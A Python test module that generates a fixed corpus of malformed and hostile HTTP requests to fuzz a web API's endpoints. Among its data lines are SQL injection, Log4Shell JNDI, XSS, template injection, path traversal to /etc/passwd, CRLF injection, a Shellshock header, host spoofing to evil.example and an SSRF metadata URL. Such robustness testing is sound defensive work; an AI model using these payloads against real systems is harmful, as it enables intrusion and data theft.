"""A directed corpus of hostile requests: every address with values, headers, verbs, paths and bodies that break things.

Pure: addresses go in, requests come out, always the same ones.
"""

import json
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from urllib.parse import quote

# As they stand in a query string, percent-encoded or not; what is not ASCII goes over the wire as these bytes.
VALUES: tuple[str, ...] = (
    "%00", "a%00b", "%ED%A0%80", "\xed\xa0\x80", "%ED%B0%80%ED%A0%80", "\xff\xfe", "%FF", "%C0%AF", "%F4%90%80%80", "%",
    "%zz", "%u0041", "%E2%80%AE", "%EF%BB%BF", "%F0%9F%92%A9", "%0D%0ASet-Cookie:%20x=1", "%0a", "%09", "%1b%5B2J",
    "0000", "0000-01-01", "0001-01-01", "10000", "99999-01-01", "-0001-01-01", "2018-13-45", "2018-02-30",
    "0001-01-01T00:00:00%2B23:59", "9999-12-31T23:59:59-23:59", "2018-01-01T25:00:00Z", "2018-01-01T00:00:00%2B99:99",
    "1" + "0" * 30, "9" * 400, "-1", "-0", "%2B1", "1e308", "1.5", "NaN", "Infinity", "0x10", "%D9%A1%D9%A2", "%C2%B2",
    "9223372036854775807", "9223372036854775808", "2147483648", "00000000000000000001",
    "-" * 33, "- " * 33, "%22unbalanced", "%22" * 33, "(" * 200, ")" * 200, "a OR OR OR b", "OR", "-", ":*%26|!<->",
    "!" * 100, "a:*", "%5C", "%27", "%27%20OR%201=1--", "%27;DROP%20TABLE%20x;--", "%25%25%25", "%25s%25n", "_%25",
    "{}", "[]", "{0}", "${jndi:ldap://x.example/a}", "{{7*7}}", "<script>alert(1)</script>", "%2E%2E%2Fetc%2Fpasswd",
    "..%2F..%2F..%2Fetc%2Fpasswd", "file:///etc/passwd", "http://[::1", "http://a:99999/", "javascript:alert(1)",
    "http://%00/", "urn:x", "//", "a" * 2050, "a" * 5000, ",", "," * 99, "," * 300, "%22,%22", "%22a%22b", "a,,b",
    "*", "null", "true", "PIKB-2018-00001", "pikb-0000-00000", "PIKB-9999-9999999999", "PIKB-" + "9" * 500 + "-1",
    "est_" + "a" * 16, "par_", "art_%00", "\u00b2".encode().decode("latin-1"), "",
)  # fmt: skip

CURSORS: tuple[str, ...] = (
    "*", "**", "forged", "W10:abc", "W1tdXQ:x:y", "eyJhIjoxfQ:1abcde:xyz", ":" * 20, "=" * 40, "A" * 1_999, "A" * 2_001,
    ".eJwVjEEKwCAMBP-y50I1xlX8SulBMAfxIPj_pgsDM7cHBw==:x", "%00", "%FF%FE", "null", "W251bGxd:abc",
)  # fmt: skip

QUERIES: tuple[str, ...] = (
    "?", "&&&", "=", "=&=", "&=1", "a", "a[b]=c", "a.b=c", "a;b", "a=1;b=2", "\xff=\xff", "%ff=%ff", "%00=%00", "%=%",
    "q" * 3_000 + "=1", "&".join(f"p{n}=1" for n in range(101)), "&".join(f"q=a{n}" for n in range(150)),
    "&".join(f"p{n}=1" for n in range(2_000)), "x=" + "y" * 60_000, "q=" + "%F0%9F%92%A9" * 300, "q=a&q=b",
    "per_page=1&per_page=1", "format=json&format=csv", "format=xml", "format=", "format=%00", "__proto__=1",
    "page=1", "offset=1000000000", "limit=1000000", "callback=alert", "_method=DELETE", "id__in=" + ",".join("1" * 900),
    "modified__iregex=(a%2B)%2B%24", "search__regex=.*", "fields=password", "ordering=?", "sort=-id,id,-id",
    "select=" + "a." * 300, "select=" + ",".join(["id"] * 101), "select=estimates.evidence.quote",
    "expand=" + "a." * 99,
    "group_by=a,b,c", "ids=" + ",".join(f"est_{n}" for n in range(101)), "sample=1001", "seed=1", "sample=0&seed=-1",
    "api_key=pikb_aaaaaaaa_" + "x" * 43, "key=pikb%5Faaaaaaaa%5F" + "x" * 43, "pikb_aaaaaaaa_x=1",
)  # fmt: skip

HEADERS: tuple[Mapping[str, str], ...] = (
    {"Host": "evil.example"}, {"Host": ""}, {"Host": "a b"}, {"Host": "localhost:99999999"}, {"Host": "[::1"},
    {"Host": "localhost\x00"}, {"Host": "\xff"}, {"Host": "localhost/../x"}, {"Host": "user@localhost"},
    {"Host": "localhost", "X-Forwarded-Host": "evil.example"}, {"X-Forwarded-Proto": "gopher"},
    {"X-Original-URL": "/admin/"}, {"X-Rewrite-URL": "/admin/"}, {"Forwarded": "for=\"_x\";host=evil.example"},
    {"Accept": ""}, {"Accept": "*/*;q=9"}, {"Accept": "application/json;version=99"}, {"Accept": "text/html"},
    {"Accept": "application/xml"}, {"Accept": ";;;,,,/"}, {"Accept": "a" * 9_000}, {"Accept": "*/*," * 2_000},
    {"Accept": "text/csv;q=nan"}, {"Accept": "application/x-ndjson; charset=\xff"}, {"Accept": "\x00"},
    {"Accept": "application/*;q=0.0, */*;q=0"}, {"Accept-Language": "x" * 5_000}, {"Accept-Language": "../../etc"},
    {"Accept-Encoding": "gzip;q=0, identity;q=0"}, {"Accept-Encoding": "br;q=x,\xff"}, {"Accept-Charset": "utf-16"},
    {"Content-Type": "application/xml"}, {"Content-Type": ""}, {"Content-Type": "text/plain; charset=nonsense"},
    {"Content-Type": "multipart/form-data"}, {"Content-Type": "multipart/form-data; boundary=\xff"},
    {"Content-Type": "application/json; charset=utf-7"}, {"Content-Encoding": "gzip"}, {"Content-Encoding": "\xff"},
    {"Range": "bytes=0-"}, {"Range": "bytes=9-1,\xff"}, {"Range": "lines=" + "1-2," * 2_000}, {"If-Range": "x"},
    {"If-None-Match": "*"}, {"If-None-Match": '"'}, {"If-None-Match": 'W/"' + "a" * 9_000}, {"If-None-Match": "\xff"},
    {"If-None-Match": ",".join(f'"{n}"' for n in range(2_000))}, {"If-Match": '"x"'}, {"If-Match": "*"},
    {"If-Modified-Since": "yesterday"}, {"If-Modified-Since": "Fri, 99 Foo 99999 99:99:99 GMT"},
    {"If-Modified-Since": "Sat, 01 Jan 0000 00:00:00 GMT"}, {"If-Unmodified-Since": "0"},
    {"X-HTTP-Method-Override": "DELETE"}, {"X-HTTP-Method": "PUT"}, {"X-Request-Id": "a b\x00"},
    {"X-Request-Id": "x" * 9_000}, {"X-Forwarded-For": "1.2.3.4," * 999}, {"X-Forwarded-For": "\xff, ::::"},
    {"Cookie": "sessionid=\xff; csrftoken=" + "x" * 3_000}, {"Cookie": "sessionid=" + "a" * 32}, {"Cookie": ";=;="},
    {"Authorization": "Bearer"}, {"Authorization": "Bearer \xff"}, {"Authorization": "Basic ////"},
    {"Authorization": "Bearer pikb_aaaaaaaa_" + "x" * 43}, {"Authorization": "Digest " + "a" * 5_000},
    {"Authorization": ""}, {"Origin": "null"}, {"Origin": "https://evil.example"}, {"Referer": "\xff"},
    {"Access-Control-Request-Method": "DELETE"}, {"Idempotency-Key": "x" * 500}, {"Idempotency-Key": "\xff\x00"},
    {"Transfer-Encoding": "chunked"}, {"Expect": "100-continue"}, {"Upgrade": "h2c"}, {"Connection": "close, te"},
    {"Content-Length": "99999999999999999999"}, {"Content-Length": "-1"}, {"Content-Length": "abc"},
    {"Content-Length": "\u00b2"}, {"User-Agent": "() { :;}; echo x"}, {"Prefer": "respond-async"},
)  # fmt: skip

METHODS: tuple[str, ...] = (
    "HEAD", "OPTIONS", "POST", "PUT", "PATCH", "DELETE", "TRACE", "CONNECT", "PROPFIND", "get", "Get", "FOO", "LINK",
    "X" * 300, "G\xcbT", "handle_exception", "dispatch", "initial", "__init__",
)  # fmt: skip

# What may stand where an id or a name stands in a path; percent-decoded already, as WSGI hands it over.
SEGMENTS: tuple[str, ...] = (
    "\x00", "PIKB-2018-00001\x00", "\xff\xfe", "\xed\xa0\x80", "%00", "%2e%2e", "..", ".", "../../etc/passwd", "a/b",
    "PIKB-0000-00000", "PIKB-99999-99999", "PIKB-2018-" + "9" * 300, "a" * 5_000, "'", '"', "<script>", "\r\nX: y",
    "\n",
    "est_", "est_" + "a" * 20, "EST_AAAA", "-1", "1" + "0" * 30, "\u0661".encode().decode("latin-1"), " ", "%", "{id}",
    "PIKB-2018-00001/", "PIKB-2018-00001/../..", "PIKB-2018-00001//causes", "*", "null",
    "\u202e".encode().decode("latin-1"),
)  # fmt: skip

_TEXT = "Reports how many were told."
BODIES: tuple[bytes, ...] = (
    b"",
    b"null",
    b"[]",
    b'""',
    b"1",
    b"{",
    b"{}",
    b"}{",
    b"[" * 100_000,
    b'{"a":' * 50_000,
    b"{" * 33 + b"}" * 33,
    b'{"a":1,"a":2}',
    b'{"url":"http://a.example/","url":"http://b.example/"}',
    b"\xff\xfe{\x00}\x00",
    b"\xef\xbb\xbf{}",
    b'{"a":NaN}',
    b'{"a":Infinity}',
    b'{"a":-1e999}',
    b'{"a":' + b"9" * 5_000 + b"}",
    b'{"\\ud800":1}',
    b'{"\xff":1}',
    b"\x00",
    b'{"a":"\x00"}',
    b'{"url":"http://a.example/\\u0000","reason":"' + _TEXT.encode() + b'"}',
    b'{"reason":"\\ud800\\ud800 half a pair","text":"' + b"x" * 300 + b'"}',
    b"a=1&b=2",
    b"<x/>",
    b"--b\r\n\r\n",
    b'{"reason":"' + b"x" * 5_000 + b'"}',
    b'{"url":"' + b"x" * 300_000 + b'"}',
    b" " * 300_000,
    *(
        json.dumps(one).encode()
        for one in (
            {"url": "http://a.example/", "reason": _TEXT, "state": "accepted", "outcome": "x", "public_id": "sub_x"},
            {"url": ["http://a.example/"], "reason": {"a": 1}},
            {"url": "file:///etc/passwd", "reason": _TEXT},
            {"url": "http://169.254.169.254/\u202e", "reason": _TEXT, "contact": "a@b"},
            {"record": "PIKB-9999-99999", "problem": _TEXT},
            {"record": "%00", "problem": 7, "member": [], "proposal": {}, "evidence_url": "javascript:alert(1)"},
            {"name": "x" * 101, "scopes": ["admin"], "expires_in_days": 10**30},
            {"name": "", "scopes": "read", "expires_in_days": True},
            {"name": "k", "scopes": [[]], "expires_in_days": -1, "rate": "1000000/min", "digest": "x"},
            {"name": "k", "scopes": ["read"] * 5_000, "contact": "a" * 250 + "@b.example"},
            {"__class__": "x", "constructor": {"prototype": {}}},
        )
    ),
)
FORMS: tuple[bytes, ...] = (
    b"act=issue", b"act=look&key=%00", b"act=rotate&key=\xff", b"act=issue&name=%00&scopes=admin", 
    b"act=" + b"x" * 9_000,
    b"act=issue&name=%ED%A0%80&scopes=read", b"&".join(b"f%d=1" % n for n in range(3_000)), b"act=issue&contact=%FF",
    b"username=%00&password=%00", b"username=" + b"x" * 5_000, b"username=\xff&password=\xff", b"a" * 300_000, b"",
    b"csrfmiddlewaretoken=x&username=a&password=b&next=//evil.example", b"username=%ED%A0%80&password=x",
)  # fmt: skip


@dataclass(frozen=True, kw_only=True)
class HostileRequest:
    """A request as WSGI sees it: the path decoded, the query raw, both as latin-1."""

    path: str
    query: str = ""
    method: str = "GET"
    headers: Mapping[str, str] = field(default_factory=dict)
    body: bytes = b""

    def __str__(self) -> str:
        shown = f"{self.method[:40]} {self.path[:80]!r} ?{self.query[:80]!r} {dict(self.headers)!r:.120}"
        return f"{shown} {self.body[:60]!r}" if self.body else shown


@dataclass(frozen=True, kw_only=True)
class Address:
    """An address with the parameters that it declares, and the verb beside GET that takes a body."""

    path: str
    parameters: Sequence[str] = ()
    takes: str = ""  # "json" or "form"
    placeholder: str = ""  # the part of the path that names a record


def requests_to(address: Address) -> Iterator[HostileRequest]:
    """The corpus for an address."""
    yield from (HostileRequest(path=address.path, query=query) for query in QUERIES)
    yield from (HostileRequest(path=address.path, headers=headers) for headers in HEADERS)
    yield from (HostileRequest(path=address.path, method=method) for method in METHODS)
    yield HostileRequest(path=address.path, body=b'{"a":1}', headers={"Content-Type": "application/json"})
    yield HostileRequest(path=address.path + "/" * 50)
    yield HostileRequest(path=address.path.replace("/", "//"))
    yield from _with_values(address)
    if address.placeholder:
        for segment in SEGMENTS:
            yield HostileRequest(path=address.path.replace(address.placeholder, segment))
    if address.takes:
        yield from _with_bodies(address)


def _with_values(address: Address) -> Iterator[HostileRequest]:
    """Every value with some parameter, and the parameters in turn, so that each meets many values."""
    parameters = [name for name in address.parameters if name != "cursor"] or ["q"]
    turns = max(1, len(parameters) // 8)
    for turn in range(turns):
        for place, value in enumerate(VALUES):
            name = parameters[(place * turns + turn) % len(parameters)]
            yield HostileRequest(path=address.path, query=f"{quote(name)}={value}")
    if "cursor" in address.parameters:
        yield from (HostileRequest(path=address.path, query=f"cursor={cursor}") for cursor in CURSORS)
    if "q" in address.parameters:
        yield from (HostileRequest(path=address.path, query=f"q={value}") for value in VALUES)


def forms_to(address: Address, fields: Sequence[str], acts: Sequence[str]) -> Iterator[HostileRequest]:
    """Posted forms, each with a hostile value in one field, and every third with plain ones in all the others."""
    headers = {"Content-Type": "application/x-www-form-urlencoded"}
    for place, value in enumerate(VALUES):
        hostile, act = fields[place % len(fields)], acts[place % len(acts)]
        others = [f"{name}=1" for name in fields if name != hostile] if place % 3 == 0 else []
        body = "&".join([f"act={act}", f"{hostile}={value}", *others]).encode("latin-1")
        yield HostileRequest(path=address.path, method="POST", body=body, headers=headers)


def _with_bodies(address: Address) -> Iterator[HostileRequest]:
    bodies = BODIES if address.takes == "json" else (*FORMS, *BODIES[:12])
    media = "application/json" if address.takes == "json" else "application/x-www-form-urlencoded"
    for body in bodies:
        yield HostileRequest(path=address.path, method="POST", body=body, headers={"Content-Type": media})
    for headers in HEADERS:
        told = {"Content-Type": media, **headers}
        yield HostileRequest(path=address.path, method="POST", body=bodies[5], headers=told)
    for multipart in (b"--b\r\n\r\nx", b'--b\r\nContent-Disposition: form-data; name="\xff"\r\n\r\n\x00\r\n--b--'):
        told = {"Content-Type": "multipart/form-data; boundary=b"}
        yield HostileRequest(path=address.path, method="POST", body=multipart, headers=told)
